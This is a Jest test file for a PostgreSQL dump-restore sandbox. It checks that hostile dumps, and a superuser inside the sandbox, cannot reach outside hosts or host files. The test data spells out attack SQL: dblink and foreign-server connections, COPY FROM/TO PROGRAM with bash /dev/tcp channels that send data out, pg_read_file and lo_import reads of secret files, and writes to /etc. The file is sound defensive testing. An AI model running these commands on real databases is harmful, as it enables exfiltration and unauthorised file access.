// Hostile dumps that somebody allowed by mistake, restored for real, and the same attacks by a
// superuser: nothing leaves the container.
import { access, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { scanPlainFile, type AcceptedDump } from '../../harness/intake/index.ts';
import { allowable, CODES, type Allowance, type Code } from '../../harness/kernel/index.ts';
import { restoreDump, type RestoreOutcome } from '../../harness/restore/index.ts';
import { MAINTENANCE_DATABASE, type Sandbox } from '../../harness/sandbox/index.ts';
import { testSandbox } from '../container/sandboxes.ts';
import {
  attestAndTake,
  openKitchen,
  refusalsOf,
  spliced,
  written,
  type Kitchen,
} from './kitchen.ts';
import { listen, type Listener } from './listener.ts';

const SLOW_MS = 90_000;
const EXTENSIONS = [
  'plpgsql',
  'dblink',
  'postgres_fdw',
  'file_fdw',
  'hstore',
  'pg_trgm',
  'pgcrypto',
];
/** Whatever a lane can allow, as somebody would who only wants it to pass. */
const ALL: readonly Allowance[] = (Object.keys(CODES) as Code[]) // the registry's own keys
  .filter((code) => allowable(code) === 'everywhere')
  .map((code) => ({ code, reason: 'a mistake' }));

let folder: string;
let kitchen: Kitchen;
let host: Listener;
let secretFile: string;
let ownedFile: string;

beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'restored-'));
  host = await listen();
  secretFile = path.join(folder, 'secret.txt');
  ownedFile = path.join(folder, 'owned.txt');
  await writeFile(secretFile, 'only the host may read this');
  kitchen = await openKitchen(folder, 15);
  await kitchen.database('modest', "CREATE TABLE modest (a text); INSERT INTO modest VALUES ('x')");
}, SLOW_MS);
afterAll(async () => {
  await kitchen[Symbol.asyncDispose]();
  host[Symbol.dispose]();
  await rm(folder, { recursive: true, force: true });
}, SLOW_MS);

/** Runs the work and shows that nobody came, with a listener that counts. */
async function whileNobodyComes(work: () => Promise<void>): Promise<void> {
  const before = host.connections();
  await work();
  expect(host.connections()).toBe(before);
  await host.knock();
  expect(host.connections()).toBe(before + 1);
  await expect(access(ownedFile)).rejects.toThrow('ENOENT');
}

async function allowedByMistake(dumpPath: string): Promise<AcceptedDump> {
  const outcome = await attestAndTake(dumpPath, folder, ALL);
  if (outcome.kind !== 'accepted') throw new Error(JSON.stringify(outcome.findings));
  expect(outcome.allowed.length).toBeGreaterThan(0);
  return outcome.dump;
}

async function restored(
  dump: AcceptedDump,
  then: (outcome: RestoreOutcome, sandbox: Sandbox) => Promise<void>,
): Promise<void> {
  await using held = await testSandbox(15, { stagedDumpPath: dump.stagedPath });
  const { sandbox } = held;
  const outcome = await restoreDump({
    sandbox,
    dump,
    allowedExtensions: EXTENSIONS,
    jobs: 1,
    limitSeconds: 60,
    scanPlain: scanPlainFile,
  });
  await then(outcome, sandbox);
}

describe('a harmless dump made in the same way', () => {
  test.each(['custom', 'plain'])(
    'restores: %s',
    async (format) => {
      const dumpPath = await kitchen.dump('modest', [`--format=${format}`], 'modest');
      const outcome = await attestAndTake(dumpPath, folder);
      if (outcome.kind !== 'accepted') throw new Error(JSON.stringify(outcome.findings));
      await restored(outcome.dump, async ({ evidence }) => {
        expect(evidence.judgement).toBe('HELD');
      });
    },
    SLOW_MS,
  );
});

describe('a hostile dump that was allowed by mistake', () => {
  const calls = (): string =>
    host.addresses
      .map(
        (address) => `BEGIN
          PERFORM public.dblink_connect('a', 'host=${address} port=${host.port} user=x password=x connect_timeout=2');
        EXCEPTION WHEN OTHERS THEN told := told || SQLERRM || '; ';
        END;`,
      )
      .join('\n');

  test(
    'calls out while it is restored, and reaches nobody',
    async () => {
      await kitchen.database(
        'calling',
        `CREATE EXTENSION dblink;
         CREATE TABLE t (a integer);
         CREATE FUNCTION call_out() RETURNS text LANGUAGE plpgsql AS $f$
         DECLARE told text := '';
         BEGIN ${calls()} RETURN told; END $f$;
         CREATE MATERIALIZED VIEW told AS SELECT call_out() AS words;`,
      );
      const dumpPath = await kitchen.dump('calling', ['--format=custom'], 'calling.dump');
      expect(refusalsOf(await attestAndTake(dumpPath, folder))).toEqual(['HOSTILE_DBLINK']);
      await whileNobodyComes(async () => {
        await restored(await allowedByMistake(dumpPath), async (outcome, sandbox) => {
          await using session = await sandbox.connect({ database: outcome.database });
          const { rows } = await session.client.query<{ words: string }>('SELECT words FROM told');
          // It did run, once for each address, and each time was told that nobody is there.
          expect(rows[0]?.words.match(/could not establish connection/g)).toHaveLength(
            host.addresses.length,
          );
        });
      });
    },
    SLOW_MS,
  );

  test(
    'brings servers, mappings and foreign tables, and reaches nobody',
    async () => {
      const address = host.addresses[0] ?? '';
      await kitchen.database(
        'foreign_tables',
        `CREATE EXTENSION postgres_fdw; CREATE EXTENSION file_fdw;
         CREATE SERVER prod FOREIGN DATA WRAPPER postgres_fdw
           OPTIONS (host '${address}', port '${host.port}', dbname 'x');
         CREATE USER MAPPING FOR PUBLIC SERVER prod OPTIONS (user 'x', password 'x');
         CREATE FOREIGN TABLE far (a integer) SERVER prod;
         CREATE SERVER files FOREIGN DATA WRAPPER file_fdw;
         CREATE FOREIGN TABLE near (line text) SERVER files OPTIONS (filename '${secretFile}');
         CREATE SUBSCRIPTION sly CONNECTION 'host=${address} port=${host.port}'
           PUBLICATION p WITH (connect = false, slot_name = 'sly');`,
      );
      const dumpPath = await kitchen.dump('foreign_tables', ['--format=custom'], 'foreign.dump');
      expect(refusalsOf(await attestAndTake(dumpPath, folder))).toEqual([
        'HOSTILE_FOREIGN_SERVER',
        'HOSTILE_SUBSCRIPTION',
        'HOSTILE_USER_MAPPING',
      ]);
      await whileNobodyComes(async () => {
        await restored(await allowedByMistake(dumpPath), async (outcome) => {
          // Who restores may make none of these: the restore says so and is not called good.
          expect(outcome.evidence.judgement).toBe('NOT_HELD');
          expect(outcome.findings.map(({ code }) => code)).toContain('RESTORE_ERROR');
        });
      });
    },
    SLOW_MS,
  );

  test(
    'is a plain one with programs, files, settings and libraries, and gets none of them',
    async () => {
      const plain = await kitchen.dump('modest', ['--format=plain'], 'modest.sql');
      const attacks = [
        `COPY modest FROM PROGRAM 'bash -c "echo x > /dev/tcp/${host.addresses[0] ?? ''}/${host.port}"';`,
        `COPY modest FROM '${secretFile}';`,
        `DO $$ BEGIN COPY modest TO '${ownedFile}'; END $$;`,
        "ALTER SYSTEM SET archive_command = 'x';",
        "LOAD 'dblink';",
        `SELECT pg_catalog.pg_read_file('${secretFile}');`,
      ];
      const text = spliced(await readFile(plain, 'utf8'), attacks.join('\n'));
      const dumpPath = await written(folder, 'programs.sql', text);
      expect(refusalsOf(await attestAndTake(dumpPath, folder))).toEqual([
        'HOSTILE_ALTER_SYSTEM',
        'HOSTILE_COPY_PROGRAM',
        'HOSTILE_FILE_ACCESS',
        'HOSTILE_LOAD',
        'HOSTILE_SETTING',
        'HOSTILE_STATEMENT',
      ]);
      await whileNobodyComes(async () => {
        await restored(await allowedByMistake(dumpPath), async (outcome) => {
          expect(outcome.evidence.judgement).toBe('NOT_HELD');
        });
      });
    },
    SLOW_MS,
  );

  test(
    'has one letter of its table of contents changed, and is found out by the restore',
    async () => {
      const bytes = await readFile(
        await kitchen.dump('modest', ['--format=custom'], 'letter.dump'),
      );
      const at = bytes.indexOf('CREATE TABLE public.modest (') + 'CREATE TABLE public.'.length;
      bytes.write('k', at, 'latin1');
      const outcome = await attestAndTake(await written(folder, 'letter.dump', bytes), folder);
      if (outcome.kind !== 'accepted') throw new Error('intake cannot know this');
      await restored(outcome.dump, async ({ evidence }) => {
        expect(evidence.judgement).toBe('NOT_HELD');
      });
    },
    SLOW_MS,
  );
});

describe('a superuser in the sandbox', () => {
  test(
    'reaches no address, no file of the host, and writes none',
    async () => {
      await using held = await testSandbox(15);
      const { sandbox } = held;
      await using session = await sandbox.connect({ database: MAINTENANCE_DATABASE });
      const { client } = session;
      await client.query('CREATE EXTENSION dblink; CREATE EXTENSION postgres_fdw');
      await client.query('CREATE TABLE words (line text)');
      const { port } = host;
      const outside = host.addresses.filter((address) => !address.startsWith('127.'));
      expect(outside.length).toBeGreaterThan(0);
      const attacks = host.addresses.flatMap((address) => [
        `SELECT dblink_connect('host=${address} port=${port} user=x password=x connect_timeout=2')`,
        `COPY words FROM PROGRAM 'bash -c "exec 3<>/dev/tcp/${address}/${port}"'`,
        `COPY words TO PROGRAM 'timeout 2 bash -c "cat > /dev/tcp/${address}/${port}"'`,
        `CREATE SERVER s_${address.replaceAll('.', '_')} FOREIGN DATA WRAPPER postgres_fdw
           OPTIONS (host '${address}', port '${port}', connect_timeout '2');
         CREATE USER MAPPING FOR CURRENT_USER SERVER s_${address.replaceAll('.', '_')}
           OPTIONS (user 'x', password 'x');
         IMPORT FOREIGN SCHEMA public FROM SERVER s_${address.replaceAll('.', '_')} INTO public`,
        `CREATE SUBSCRIPTION sly CONNECTION 'host=${address} port=${port} user=x connect_timeout=2'
           PUBLICATION p WITH (create_slot = false)`,
      ]);
      // Not refused by a machine that has no such port open: there is no way to the machine.
      const unreachable = outside.flatMap((address) => [
        `SELECT dblink_connect('host=${address} port=${port} user=x password=x connect_timeout=2')`,
        `DO $$ DECLARE said text; BEGIN
           CREATE TEMP TABLE IF NOT EXISTS heard (line text);
           COPY heard FROM PROGRAM 'bash -c "exec 3<>/dev/tcp/${address}/${port}" 2>&1 || true';
           SELECT string_agg(line, ' ') INTO said FROM heard;
           RAISE EXCEPTION '%', said;
         END $$`,
      ]);
      const files = [
        `SELECT pg_read_file('${secretFile}')`,
        `SELECT pg_ls_dir('${folder}')`,
        `SELECT lo_import('${secretFile}')`,
        `COPY words FROM '${secretFile}'`,
        `COPY words TO '${ownedFile}'`,
        `COPY words FROM PROGRAM 'cat ${secretFile}'`,
        `COPY words TO PROGRAM 'cat > ${ownedFile}'`,
        "COPY words TO '/etc/owned'",
        "COPY words FROM PROGRAM 'ls /var/run/docker.sock'",
      ];
      await whileNobodyComes(async () => {
        for (const sql of [...attacks, ...files]) {
          const reached = await client.query(sql).then(
            () => true,
            () => false,
          );
          expect({ sql, reached }).toEqual({ sql, reached: false });
        }
      });
      for (const sql of unreachable) {
        const told = await client.query(sql).then(
          () => 'it was reached',
          // The server's own words: what the harness would repeat of them holds no host.
          (error: unknown) =>
            ['message', 'detail'].map((key) => String(Reflect.get(Object(error), key))).join(' '),
        );
        expect(told).toContain('Network is unreachable');
      }
      // The very same ways work where there is something to reach: none of them fails by mistake.
      await client.query("COPY words FROM PROGRAM 'cat /etc/hostname'");
      await client.query("SELECT pg_read_file('PG_VERSION')");
      const { rows } = await client.query('SELECT line FROM words');
      expect(rows.length).toBeGreaterThan(0);
    },
    SLOW_MS,
  );
});
